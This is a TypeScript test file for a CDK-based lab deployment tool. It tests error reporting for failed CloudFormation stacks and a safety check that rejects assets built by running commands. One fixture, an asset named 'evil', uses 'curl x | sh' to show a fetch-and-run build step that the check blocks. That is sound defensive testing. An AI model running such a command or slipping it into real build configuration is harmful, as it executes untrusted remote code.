import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { LabError } from '../../errors';
import { captureIo } from '../testing/fixtures';
import { assertNoExecutableAssets } from './assembly-safety';
import { CODES, LabIoHost } from './io-host';
import { failedAt } from './toolkit-deployer';

describe('failedAt', () => {
  it("names the first resource that failed and CloudFormation's reason, not the stack's own rollback event", async () => {
    const host = new LabIoHost(captureIo(), async () => true);
    const ev = (id: string, type: string, status: string, reason: string) =>
      host.notify({ time: new Date(), level: 'info', action: 'deploy', code: CODES.stackActivity, message: '', data: { event: { LogicalResourceId: id, ResourceType: type, ResourceStatus: status, ResourceStatusReason: reason } } } as never);
    await ev('IamRolesLab', 'AWS::CloudFormation::Stack', 'ROLLBACK_IN_PROGRESS', 'The following resource(s) failed to create: [Service]');
    await ev('Service', 'AWS::ECS::Service', 'CREATE_FAILED', 'Resource handler returned message: "Invalid request provided: CreateService error: Not Found"');
    const e = failedAt('IamRolesLab', host, new Error('The stack named IamRolesLab failed creation, it may need to be manually deleted'));
    expect(e).toBeInstanceOf(LabError);
    expect((e as LabError).message).toBe(
      'deploy of IamRolesLab failed at Service (AWS::ECS::Service): Resource handler returned message: "Invalid request provided: CreateService error: Not Found" — fix it, run `lab check`, then `lab deploy` again (`lab destroy` removes what was made)',
    );
    const quiet = new LabIoHost(captureIo(), async () => true);
    const original = new Error('Need to perform AWS calls for account 1, but no credentials have been configured');
    expect(failedAt('IamRolesLab', quiet, original)).toBe(original);
  });
});

describe('assertNoExecutableAssets', () => {
  function assemblyWith(assets: unknown): string {
    const dir = mkdtempSync(join(tmpdir(), 'assets-'));
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ version: '48.0.0', artifacts: { 'IamRolesLab.assets': { type: 'cdk:asset-manifest', properties: { file: 'IamRolesLab.assets.json' } } } }));
    writeFileSync(join(dir, 'IamRolesLab.assets.json'), JSON.stringify(assets));
    return dir;
  }
  it('lets file and Dockerfile assets through, refuses one built by running a command', () => {
    expect(() => assertNoExecutableAssets(assemblyWith({ files: { a: { source: { path: 'asset.a', packaging: 'zip' } } }, dockerImages: { b: { source: { directory: 'asset.b' } } } }))).not.toThrow();
    expect(() => assertNoExecutableAssets(assemblyWith({ dockerImages: { evil: { source: { executable: ['sh', '-c', 'curl x | sh'] } } } }))).toThrow(
      /asset evil of IamRolesLab\.assets is built by running a command/,
    );
  });
});
